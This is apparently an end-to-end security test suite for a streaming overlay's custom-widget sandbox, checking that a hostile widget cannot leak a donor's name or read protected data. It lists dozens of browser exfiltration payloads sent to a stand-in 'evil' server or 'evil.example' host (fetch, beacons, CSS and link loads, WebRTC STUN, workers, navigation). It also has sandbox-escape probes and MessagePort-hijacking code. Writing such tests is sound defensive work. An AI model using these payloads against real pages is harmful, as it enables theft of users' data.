// This file has over 300 lines, because it has the list of attacks that one widget tries against one server.
import { readFile } from 'node:fs/promises';
import { chromium } from '@playwright/test';
import { donate } from './support/api.ts';
import { notInObs, obsChromium, obsFlags } from './support/chromium.ts';
import { openContext } from './support/context.ts';
import { addCustomWidget, widgetFrame } from './support/customWidget.ts';
import { type EvilServer, openEvilServer } from './support/evilServer.ts';
import { expect, test } from './support/fixtures.ts';

/* A hostile widget tries to send a donor's name to a server, or to read data that it may not have (SPEC CUS-43). */

test.use({ viewport: { width: 1_280, height: 720 } });

/** Each attack runs separately and may throw. `EVIL` is the address of a server that must not receive anything. */
const attacks: Readonly<Record<string, string>> = {
  fetch: "fetch(EVIL + 'fetch?' + secret, { mode: 'no-cors' })",
  xhr: "const x = new XMLHttpRequest(); x.open('POST', EVIL + 'xhr'); x.send(secret)",
  beacon: "navigator.sendBeacon(EVIL + 'beacon', secret)",
  image: "new Image().src = EVIL + 'image?' + secret",
  'css background': "document.body.style.background = 'url(' + EVIL + 'background?' + secret + ')'",
  'css import': "add('style', { textContent: '@import url(' + EVIL + 'import?' + secret + ');' })",
  'font face':
    "add('style', { textContent: '@font-face { font-family: x; src: url(' + EVIL + 'font?' + secret + '); } body { font-family: x; }' })",
  FontFace: "new FontFace('y', 'url(' + EVIL + 'fontface?' + secret + ')').load()",
  script: "add('script', { src: EVIL + 'script?' + secret })",
  'module import': "import(EVIL + 'import?' + secret)",
  ...Object.fromEntries(
    ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'preconnect', 'prerender', 'dns-prefetch', 'manifest', 'icon'].map((rel) => [
      `link ${rel}`,
      `add('link', { rel: '${rel}', href: EVIL + 'link-${rel}?' + secret, as: 'script' })`,
    ]),
  ),
  'speculation rules':
    "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [EVIL + 'speculation?' + secret] }], prerender: [{ source: 'list', urls: [EVIL + 'prerender?' + secret] }] }) })",
  iframe: "add('iframe', { src: EVIL + 'iframe?' + secret })",
  srcdoc:
    "add('iframe', { srcdoc: '<img src=\"' + EVIL + 'srcdoc?' + secret + '\"><script>new Image().src=\"' + EVIL + 'srcdoc-script\"</' + 'script>' })",
  object: "add('object', { data: EVIL + 'object?' + secret })",
  embed: "add('embed', { src: EVIL + 'embed?' + secret })",
  audio: "new Audio(EVIL + 'audio?' + secret).play()",
  'video poster': "add('video', { poster: EVIL + 'poster?' + secret })",
  track:
    "const v = add('video', {}); v.append(Object.assign(document.createElement('track'), { src: EVIL + 'track?' + secret, default: true })); v.textTracks[0].mode = 'showing'",
  svg: "document.body.insertAdjacentHTML('beforeend', '<svg><image href=\"' + EVIL + 'svg?' + secret + '\"/><use href=\"' + EVIL + 'use#x\"/><filter id=f><feImage href=\"' + EVIL + 'filter\"/></filter><rect width=9 height=9 filter=\"url(#f)\"/></svg>')",
  websocket: "new WebSocket(EVIL.replace('http', 'ws') + 'ws?' + secret)",
  eventsource: "new EventSource(EVIL + 'eventsource?' + secret)",
  webtransport: "new WebTransport('https://127.0.0.1:' + UDP + '/webtransport')",
  worker:
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + EVIL + 'worker?' + secret + '\"); importScripts(\"' + EVIL + 'worker-import\")'])))",
  'shared worker': "new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"' + EVIL + 'shared-worker\")'])))",
  stun: 'rtc(window)',
  'stun of a child': "rtc(add('iframe', {}).contentWindow)",
  'stun of a srcdoc child':
    "add('iframe', { srcdoc: '<script>(' + rtc + ')(window)</' + 'script><img src=x onerror=\"(' + String(rtc).replaceAll('\"', '&quot;') + ')(window)\">' })",
  'stun of a javascript: child': "add('iframe', { src: 'javascript:(' + rtc + ')(window)' })",
  'blob script': "add('script', { src: URL.createObjectURL(new Blob(['new Image().src=\"' + EVIL + 'blob\"'])) })",
  'inline handler':
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"new Image().src=&quot;' + EVIL + 'handler&quot;\">')",
  'document.write': "document.write('<img src=\"' + EVIL + 'write?' + secret + '\">')",
  meta: "add('meta', { httpEquiv: 'refresh', content: '0;url=' + EVIL + 'meta?' + secret })",
  anchor: "add('a', { href: EVIL + 'anchor?' + secret, target: '_self' }).click()",
  'anchor in a new tab': "add('a', { href: EVIL + 'blank?' + secret, target: '_blank', rel: '' }).click()",
  'anchor above': "add('a', { href: EVIL + 'top?' + secret, target: '_top' }).click()",
  ping: "add('a', { href: '#x', ping: EVIL + 'ping?' + secret }).click()",
  form: "add('form', { action: EVIL + 'form', method: 'post' }).submit()",
  download: "add('a', { href: EVIL + 'download?' + secret, download: 'x' }).click()",
  open: "window.open(EVIL + 'open?' + secret)",
  'top location': "top.location = EVIL + 'top-location?' + secret",
  'parent location': "parent.location.href = EVIL + 'parent-location?' + secret",
  'data: document': "location.href = 'data:text/html,<img src=\"' + EVIL + 'data?' + secret + '\">'",
  'blob: document':
    "location.href = URL.createObjectURL(new Blob(['<img src=\"' + EVIL + 'blob-document?' + secret + '\">'], { type: 'text/html' }))",
  'own location': "location.href = EVIL + 'location?' + secret",
  'javascript: location': "location.href = 'javascript:void(new Image().src=\"' + EVIL + 'javascript\")'",
  'the companion’s own page': "location.href = 'http://127.0.0.1:' + location.port + '/#' + secret",
  'a policy’s reports':
    "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: \"img-src 'none'; report-uri \" + EVIL + 'report' })); new Image().src = 'data:,'",
};

/** Expressions that a widget must not be able to read. Each must throw or be empty. */
const reads: Readonly<Record<string, string>> = {
  'the parent’s document': 'parent.document.body.innerHTML',
  'the parent’s address': 'parent.location.href',
  'the parent’s storage': 'parent.localStorage.length',
  'cookies of the page': 'document.cookie',
  'a database': "window.indexedDB.open('x')",
  'its own storage': "Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage')?.get.call(window).length",
  'a channel to pages of its origin': "new BroadcastChannel('x').name && self.origin !== 'null' && self.origin",
  caches: "'caches' in window && window.caches",
  'the address of the overlay': 'document.referrer',
  'the key in its address': "/key/.test(location.href) ? location.href : ''",
  'other frames':
    '[...Array(parent.frames.length).keys()].filter((i) => parent.frames[i] !== window).map((i) => parent.frames[i].document.body.innerHTML).join()',
  'a service worker': "navigator.serviceWorker.register('/x.js').then",
  'the source of OBS': 'window.obsstudio',
};

let evil: EvilServer;
test.beforeEach(async () => {
  evil = await openEvilServer();
});
test.afterEach(() => evil.close());

const prelude = (server: EvilServer) => `
  const EVIL = 'http://127.0.0.1:${server.tcpPort}/';
  const UDP = ${server.udpPort};
  let secret = 'none';
  function add(tag, properties) { const e = Object.assign(document.createElement(tag), properties); document.body.append(e); return e; }
  function rtc(of) {
    const make = of.RTCPeerConnection || of.webkitRTCPeerConnection;
    const c = new make({ iceServers: [{ urls: 'stun:127.0.0.1:${server.udpPort}' }, { urls: 'turn:127.0.0.1:${server.tcpPort}?transport=tcp', username: 'u', credential: 'c' }] });
    c.createDataChannel('x');
    c.createOffer().then((offer) => c.setLocalDescription(offer));
  }
`;

/** Attacks that leave the widget's document. The widget must be removed after each of them. */
const leaving = [
  'document.write',
  'meta',
  'anchor',
  'download',
  'form',
  'data: document',
  'blob: document',
  'own location',
  'the companion’s own page',
];

test('[CUS-43] no data of a widget reaches a socket, whatever the widget tries', async ({ product, openOverlay }) => {
  const html = '<p id="tried"></p>';
  /** Code with which the widget reports that it is ready. A widget receives events only after `onWidgetLoad`. */
  const onLoad = "window.addEventListener('onWidgetLoad', () => (document.querySelector('#tried').textContent = '0'));";
  const staying = Object.entries(attacks).filter(([name]) => !leaving.includes(name));
  const all = `${prelude(evil)} ${onLoad}
    window.addEventListener('onEventReceived', async ({ detail: { listener, event } }) => {
      if (listener !== 'tip-latest') return;
      secret = encodeURIComponent(event.name);
      const runs = [${staying.map(([, code]) => `() => { ${code} }`).join(',\n')}];
      for (const run of runs) {
        try { run(); } catch {}
        await new Promise((done) => setTimeout(done, 20));
      }
      document.querySelector('#tried').textContent = runs.length;
    });
  `;
  await addCustomWidget(product, { html, js: all });
  for (const [index, name] of leaving.entries()) {
    const js = `${prelude(evil)} ${onLoad}
      window.addEventListener('onEventReceived', ({ detail: { listener, event } }) => {
        if (listener !== 'tip-latest') return;
        secret = encodeURIComponent(event.name);
        ${attacks[name] ?? ''}
      });
    `;
    const rect = { x: 40 + 150 * index, y: 460, width: 140, height: 60 };
    await addCustomWidget(product, { name, html, js }, { element: `leaving-${index}`, rect });
  }
  const overlay = await openOverlay();
  const address = overlay.url();
  await expect(overlay.locator('iframe.frame')).toHaveCount(1 + leaving.length);
  await expect(widgetFrame(overlay).locator('#tried')).toHaveText('0');
  for (const index of leaving.keys()) await expect(widgetFrame(overlay, `leaving-${index}`).locator('#tried')).toHaveText('0');
  await donate(product, { amount: 25, donorName: 'Ada Secret' });
  await expect(widgetFrame(overlay).locator('#tried')).toHaveText(String(staying.length));
  // A widget is removed if its attack opens another document. All other attacks, including pressing a link (SPEC CUS-95), are
  // refused and the widget remains.
  await expect.poll(() => overlay.locator('iframe.frame').count()).toBeLessThan(6);
  expect(evil.received).toEqual([]);
  expect(overlay.url()).toBe(address);
  expect(overlay.context().pages()).toHaveLength(1);
});

test('[CUS-43] a widget reads nothing of the overlay, of other widgets or of OBS, opens no dialog and gets no screen, pointer or device', async ({
  product,
  context,
  openOverlay,
}) => {
  const reading = `
    window.addEventListener('onWidgetLoad', () => {
      const got = [];
      ${Object.entries(reads)
        .map(([name, code]) => `try { const value = ${code}; if (value) got.push(${JSON.stringify(name)} + ': ' + value); } catch {}`)
        .join('\n')}
      document.querySelector('#got').textContent = JSON.stringify(got);
    });
  `;
  const requesting = `
    window.addEventListener('onWidgetLoad', async () => {
      const got = [];
      const tries = {
        alert: () => alert('a'),
        confirm: () => confirm('b'),
        prompt: () => prompt('c'),
        print: () => print(),
        window: () => window.open('about:blank'),
        fullscreen: () => document.documentElement.requestFullscreen().then(() => 'full'),
        pointer: () => document.body.requestPointerLock()?.then(() => 'locked'),
        notifications: () => Notification.requestPermission().then((answer) => answer === 'granted' && answer),
        notification: () => Notification.permission === 'granted' && 'granted',
        camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
        screen: () => navigator.mediaDevices.getDisplayMedia(),
        place: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
        clipboard: () => navigator.clipboard.readText(),
        'wake lock': () => navigator.wakeLock.request('screen'),
        key: () => navigator.keyboard?.lock(),
        usb: () => navigator.usb?.requestDevice({ filters: [] }),
      };
      for (const [name, run] of Object.entries(tries)) try { if (await run()) got.push(name); } catch {}
      document.querySelector('#got').textContent = JSON.stringify(got);
    });
  `;
  await addCustomWidget(product, { html: '<p id="got"></p>', js: reading });
  await addCustomWidget(
    product,
    { html: '<p id="got"></p>', js: requesting },
    { element: 'other', rect: { x: 700, y: 40, width: 200, height: 100 } },
  );
  const dialogs: string[] = [];
  context.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const overlay = await openOverlay();
  for (const element of ['mine', 'other']) await expect(widgetFrame(overlay, element).locator('#got')).toHaveText('[]');
  expect(dialogs).toEqual([]);
  expect(overlay.context().pages()).toHaveLength(1);
  expect(await overlay.evaluate(() => document.fullscreenElement ?? document.pointerLockElement)).toBeNull();
});

test('[CUS-5] [CUS-43] a widget that replaces its window’s functions does not get its port', async ({ product, openOverlay }) => {
  const js = `
    const listen = EventTarget.prototype.addEventListener;
    let stolen = 0;
    const replace = (object, name) => Object.defineProperty(object, name, { get() { stolen += 1; }, set() { stolen += 1; } });
    for (const name of ['postMessage', 'start', 'onmessage', 'close']) replace(MessagePort.prototype, name);
    for (const name of ['data', 'ports', 'source']) replace(MessageEvent.prototype, name);
    EventTarget.prototype.addEventListener = function (...all) {
      if (this !== window) stolen += 1;
      return listen.apply(this, all);
    };
    Event.prototype.stopImmediatePropagation = () => {};
    const iterate = Array.prototype[Symbol.iterator];
    Array.prototype[Symbol.iterator] = function () {
      if (this[0] instanceof MessagePort) stolen += 1;
      return iterate.call(this);
    };
    listen.call(window, 'message', () => (stolen += 1));
    listen.call(window, 'onWidgetLoad', () => setTimeout(() => (document.querySelector('#stolen').textContent = stolen), 5000));
  `;
  await addCustomWidget(product, { html: '<p id="stolen"></p>', js });
  const overlay = await openOverlay();
  // After 5 s, the widget writes into `#stolen` how many pings it could read. Two pings arrive by then.
  await expect(widgetFrame(overlay).locator('#stolen')).toHaveText('0');
});

test('[CUS-47] no script of a widget runs in a nested frame, where nothing is counted', async ({ product, openOverlay }) => {
  const html = `<p id="ran">no</p><script>
    if (parent !== top) parent.postMessage('ran', '*');
    else {
      const own = document.currentScript.src;
      addEventListener('message', ({ data }) => data === 'ran' && (document.querySelector('#ran').textContent = 'yes'));
      addEventListener('onWidgetLoad', () => {
        const child = document.body.appendChild(document.createElement('iframe'));
        setTimeout(() => (document.querySelector('#ran').dataset.loaded = 'yes'), 1_500);
        child.srcdoc = '<script src="' + own + '"></' + 'script><script src="' + new URL('lib/jquery/jquery.min.js', location.href) + '"></' + 'script>';
      });
    }
  </script>`;
  await addCustomWidget(product, { html });
  const overlay = await openOverlay();
  await expect(widgetFrame(overlay).locator('#ran[data-loaded=yes]')).toHaveText('no');
});

test('[CUS-43] a widget reaches no other widget through their common parent window', async ({ product, openOverlay }) => {
  await addCustomWidget(product, {
    html: '<p id="heard">nothing</p>',
    js: "addEventListener('message', ({ data }) => data === 'neighbour' && (document.querySelector('#heard').textContent = data));",
  });
  const js = `
    let rounds = 0;
    addEventListener('onWidgetLoad', () => setInterval(() => {
      for (let index = 0; index < 20; index += 1) try { parent.frames[index].postMessage('neighbour', '*'); } catch {}
      document.querySelector('#rounds').textContent = rounds += 1;
    }, 100));
  `;
  await addCustomWidget(
    product,
    { html: '<p id="rounds">0</p>', js },
    { element: 'other', rect: { x: 700, y: 40, width: 200, height: 100 } },
  );
  const overlay = await openOverlay();
  await expect(widgetFrame(overlay).locator('#heard')).toHaveText('nothing');
  await expect(widgetFrame(overlay, 'other').locator('#rounds')).toHaveText(/^\d{2,}$/);
  await expect(widgetFrame(overlay).locator('#heard')).toHaveText('nothing');
});

test('[CUS-43] a widget makes no resolver look up a host', async ({ product, obs }, testInfo) => {
  const log = testInfo.outputPath('net-log.json');
  const executablePath = await obsChromium(obs);
  const browser = await chromium.launch({
    ...(executablePath && { executablePath }),
    args: [...obsFlags, `--log-net-log=${log}`],
    ignoreDefaultArgs: notInObs,
  });
  const js = `
    const HOST = 'ada-secret.evil.example';
    function add(tag, properties) { const e = Object.assign(document.createElement(tag), properties); document.body.append(e); return e; }
    window.addEventListener('onWidgetLoad', () => {
      const runs = [
        ...['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'prerender', 'stylesheet', 'icon'].map((rel) => () => add('link', { rel, href: 'http://' + HOST + '/' + rel })),
        () => add('meta', { httpEquiv: 'x-dns-prefetch-control', content: 'on' }),
        () => add('a', { href: 'https://' + HOST + '/', textContent: 'x' }).dispatchEvent(new MouseEvent('mouseover', { bubbles: true })),
        () => fetch('https://' + HOST + '/'),
        () => (new Image().src = 'http://' + HOST + '/'),
        () => new WebSocket('ws://' + HOST + '/'),
        () => add('iframe', { src: 'http://' + HOST + '/' }),
        () => new (add('iframe', {}).contentWindow.RTCPeerConnection)({ iceServers: [{ urls: 'stun:' + HOST }] }).createDataChannel('x'),
        () => new Worker(URL.createObjectURL(new Blob(["fetch('http://" + HOST + "/')"]))),
        () => (top.location = 'http://' + HOST + '/'),
      ];
      for (const run of runs) try { run(); } catch {}
      document.querySelector('#tried').textContent = 'all';
    });
    window.addEventListener('click', () => setTimeout(() => (location = 'http://' + HOST + '/'), 1_500));
  `;
  await addCustomWidget(product, { html: '<p id="tried"></p>', js });
  const overlay = await (await openContext(browser)).newPage();
  await overlay.goto(product.overlay);
  const tried = widgetFrame(overlay).locator('#tried');
  await expect(tried).toHaveText('all');
  await tried.dispatchEvent('click');
  await expect(overlay.locator('iframe.frame')).toHaveCount(0);
  await overlay.goto('http://heard.example/').catch(() => {}); // this host does not exist, but its lookup proves that the log contains lookups
  await browser.close();
  const hosts = await readFile(log, 'utf8');
  expect(hosts).toContain('heard.example');
  expect(hosts).not.toContain('evil.example');
});

test('[CUS-47] a widget gets no worker, no WebGPU and few audio contexts; the policy alone refuses workers too', async ({
  product,
  openOverlay,
}) => {
  const js = `
    const code = URL.createObjectURL(new Blob(['postMessage(1); for (;;);'], { type: 'text/javascript' }));
    const own = new URL('script-0.js', location.href).href;
    const got = [];
    const tries = {
      worker: () => new Promise((done, fail) => Object.assign(new Worker(code), { onmessage: done, onerror: fail })),
      'worker of a child': () => {
        const child = document.body.appendChild(document.createElement('iframe'));
        return new Promise((done, fail) => Object.assign(new child.contentWindow.Worker(code), { onmessage: done, onerror: fail }));
      },
      'shared worker': () => new SharedWorker(code),
      'audio worklet': () => new AudioContext().audioWorklet.addModule(own),
      'offline audio worklet': () => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(own),
      'paint worklet': () => CSS.paintWorklet.addModule(own),
    };
    window.addEventListener('onWidgetLoad', async () => {
      for (const [name, run] of Object.entries(tries)) try { await run(); got.push(name); } catch {}
      if (navigator.gpu) got.push('gpu');
      if (performance.mark('a', { detail: 'x' }).detail) got.push('detail of a mark');
      const kept = [];
      const { constructor } = Object.getPrototypeOf(new AudioContext());
      try { for (;;) kept.push(kept.length % 2 ? new constructor() : new AudioContext()); } catch {}
      document.querySelector('#got').textContent = JSON.stringify(got) + (kept.length < 16 ? ' few' : ' many');
    });
  `;
  await addCustomWidget(product, { html: '<p id="got"></p>', js });
  const overlay = await openOverlay();
  await expect(widgetFrame(overlay).locator('#got')).toHaveText('[] few');

  const frame = overlay.frames().find((one) => one.url().includes('/widget/'));
  if (!frame) throw new Error('the overlay has no widget frame');
  // Runs code in an isolated world, which still has the APIs that Ovation removes from widgets, such as `Worker`. So only the content
  // security policy can refuse the code.
  const devtools = await overlay.context().newCDPSession(frame);
  const { frameTree } = await devtools.send('Page.getFrameTree');
  const { executionContextId: contextId } = await devtools.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id });
  const expression = `new Promise((done) => {
    const code = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
    const Thread = Worker;
    try {
      Object.assign(new Thread(trustedTypes.createPolicy('default', { createScriptURL: String }).createScriptURL(code)), { onmessage: () => done('runs'), onerror: () => done('refused') });
    } catch ({ name }) {
      done(name === 'SecurityError' ? 'refused' : name);
    }
  })`;
  const { result } = await devtools.send('Runtime.evaluate', { expression, contextId, awaitPromise: true });
  expect(result.value).toBe('refused');
});
